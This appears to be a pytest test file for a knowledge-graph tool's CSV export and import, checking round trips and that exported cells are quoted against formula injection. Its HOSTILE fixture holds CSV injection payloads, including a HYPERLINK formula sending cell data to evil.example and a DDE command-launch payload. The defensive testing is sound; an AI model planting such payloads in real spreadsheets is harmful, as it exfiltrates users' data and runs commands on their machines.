"""CSV export for spreadsheets: the import layout round trips, and no cell runs as a formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from helpers import TTL_PREFIXES, run, run_ok

import graphkit
from graphkit.export.formulas import FORMULA_STARTS, guard, unguard

HOSTILE = {
    "label": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "alias": "-2+3",
    "description": "@SUM(1+1)",
    "title": "+cmd|' /C calc'!A0",
    "quote": "=1+1",
    "plain": "'just a quote",
}


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def cells(folder: Path) -> list[str]:
    found = []
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as fh:
            found += [cell for row in csv.reader(fh) for cell in row]
    return found


def hostile_folder(folder: Path) -> Path:
    folder.mkdir()
    with (folder / "entities.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "label", "type", "aliases", "description"])
        writer.writerow(["evil", HOSTILE["label"], "Company", HOSTILE["alias"], HOSTILE["description"]])
        writer.writerow(["land", HOSTILE["plain"], "Country", "", ""])
    with (folder / "sources.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "title", "publisher", "url", "published"])
        writer.writerow(["paper", HOSTILE["title"], "Paper", "https://example.org/p", "2024"])
    with (folder / "relationships.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["subject", "relation", "object", "source", "quote", "description"])
        writer.writerow(["evil", "basedIn", "land", "paper", HOSTILE["quote"], "-described"])
    return folder


def names(store) -> set[str]:
    with graphkit.open(store, read_only=True) as kg:
        query = (
            "SELECT ?v WHERE { ?s rdfs:label|skos:altLabel|dcterms:description|dcterms:title|gk:quote ?v }"
        )
        return {row["v"].value for row in kg.query(query)}


def test_guard_and_unguard_are_inverse():
    for text in ["=1", "+1", "-1", "@a", "\tx", "\rx", "'x", "''x", "'=x", "plain", "", "a=b"]:
        cell = guard(text)
        assert not cell.startswith(FORMULA_STARTS)
        assert unguard(cell) == text


def test_the_bundled_data_round_trips_through_the_import_layout(tmp_path):
    folder = tmp_path / "sheets"
    result = run_ok("export", "-F", "csv", "-o", str(folder))
    assert "Wrote" in result.output
    for kind in ("entities", "relationships", "sources"):
        header = (folder / f"{kind}.csv").read_text(encoding="utf-8").splitlines()[0]
        template = graphkit.vocab.data_dir() / "templates" / f"{kind}.csv"
        assert header == template.read_text(encoding="utf-8").splitlines()[0]
    # into a store that holds the same data, every row is already there
    store = tmp_path / "store"
    run_ok("export", "-o", str(tmp_path / "all.ttl"))
    run_ok("load", str(tmp_path / "all.ttl"), "--store", str(store))
    report = json.loads(
        run_ok("import", str(folder), "--store", str(store), "--dry-run", "-F", "json").output
    )
    with graphkit.open() as kg:
        graph = graphkit.project(kg)
    for kind, expected in (
        ("entities", len(graph)),
        ("relationships", graph.number_of_edges()),
        ("sources", 1),
    ):
        changes = report["changes"][kind]
        assert changes["new"] == changes["updated"] == [], kind
        assert len(changes["unchanged"]) == expected, kind
    # into a new store, the same entities, relationships and sources, valid
    fresh = tmp_path / "fresh"
    run_ok("import", str(folder), "--store", str(fresh))
    run_ok("validate", "--store", str(fresh))
    with graphkit.open() as bundled, graphkit.open(fresh, read_only=True) as copy:
        for query in (
            "SELECT (COUNT(DISTINCT ?r) AS ?n) WHERE { ?r a gk:Relationship ; prov:wasDerivedFrom ?s }",
            "SELECT (COUNT(*) AS ?n) WHERE { ?r gk:quote ?q }",
            "SELECT (COUNT(*) AS ?n) WHERE { ?r gk:accordingTo ?d }",
            "SELECT (COUNT(*) AS ?n) WHERE { ?e skos:altLabel ?a }",
        ):
            assert bundled.select(query) == copy.select(query), query


def test_formula_cells_are_quoted_and_survive_export_and_import(tmp_path):
    store = tmp_path / "store"
    run_ok("import", str(hostile_folder(tmp_path / "in")), "--store", str(store))
    assert set(HOSTILE.values()) <= names(store)
    out = tmp_path / "out"
    run_ok("export", "-F", "csv", "-o", str(out), "--store", str(store))
    written = cells(out)
    assert not [c for c in written if c.startswith(FORMULA_STARTS)]
    for value in HOSTILE.values():
        assert "'" + value in written or any("'" + value in c for c in written), value
    entity = next(r for r in rows(out / "entities.csv") if r["id"] == "evil")
    assert entity["label"] == "'" + HOSTILE["label"]
    # what the spreadsheet gives back imports as the original text
    again = tmp_path / "again"
    run_ok("import", str(out), "--store", str(again))
    assert set(HOSTILE.values()) <= names(again)
    assert names(again) == names(store)


def test_query_safe_csv_quotes_formulas_and_plain_csv_stays_standard():
    sparql = 'SELECT ?x ?y WHERE { VALUES (?x ?y) { ("=1+1" "ok") } }'
    plain = list(csv.reader(io.StringIO(run_ok("query", "-F", "csv", sparql).output)))
    safe = list(csv.reader(io.StringIO(run_ok("query", "-F", "csv", "--safe-csv", sparql).output)))
    assert plain == [["x", "y"], ["=1+1", "ok"]]
    assert safe == [["x", "y"], ["'=1+1", "ok"]]
    result = run("query", "--safe-csv", sparql)
    assert result.exit_code == 1 and "--safe-csv goes with -F/--format csv" in result.output


@pytest.mark.parametrize("fmt", ["ttl", "nt"])
def test_rdf_export_of_a_view_says_what_stats_will_count(tmp_path, fmt):
    out = tmp_path / f"collins.{fmt}"
    summary = run_ok("export", "-o", str(out), "--focus", "Judith Collins", "--depth", "1").output
    # "Wrote F (fmt, N triples: A entities, B relationships, and C cited document(s) ...)"
    words = summary.split("triples: ", 1)[1]
    view = int(words.split(" entities")[0])
    cited = int(words.split("and ")[1].split(" cited")[0]) if "cited" in words else 0
    assert cited > 0  # Collins's relationships cite briefings outside the one-hop view
    stats = run_ok("stats", "--store", str(out)).output
    assert f"entities                            {view + cited}\n" in stats


def test_made_up_ids_never_take_an_existing_one(tmp_path):
    ttl = tmp_path / "mixed.ttl"
    ttl.write_text(
        TTL_PREFIXES
        + """<https://example.org/acme> a gk:Company ; rdfs:label "Acme" .
gkd:acme a gk:Company ; rdfs:label "Acme Corporation" .
gkd:paper a gk:NewsReport ; dcterms:title "Paper" ; dcterms:publisher "P" ;
  schema:url <https://example.org/p> ; dcterms:issued "2024"^^xsd:gYear .
<https://example.org/acme> gk:partnerOf gkd:acme .
[] a gk:Relationship ; rdf:subject <https://example.org/acme> ; rdf:predicate gk:partnerOf ;
  rdf:object gkd:acme ; prov:wasDerivedFrom gkd:paper .
""",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    run_ok("export", "-F", "csv", "-o", str(out), "--store", str(ttl))
    ids = {r["label"]: r["id"] for r in rows(out / "entities.csv")}
    assert ids["Acme Corporation"] == "acme" and ids["Acme"] == "acme-2"
    (rel,) = rows(out / "relationships.csv")
    assert (rel["subject"], rel["object"]) == ("acme-2", "acme")
    store = tmp_path / "store"
    run_ok("import", str(out), "--store", str(store))
    with graphkit.open(store, read_only=True) as kg:
        assert kg.select("SELECT (COUNT(*) AS ?n) WHERE { ?e a gk:Company }")[0]["n"] == 2


def test_query_help_names_every_start_that_safe_csv_guards():
    from graphkit.export.formulas import FORMULA_STARTS

    text = " ".join(run_ok("query", "--help").output.split())
    names = {"\t": "tab", "\r": "carriage return"}
    for start in FORMULA_STARTS:
        assert names.get(start, start) in text.split("--safe-csv", 1)[1], repr(start)
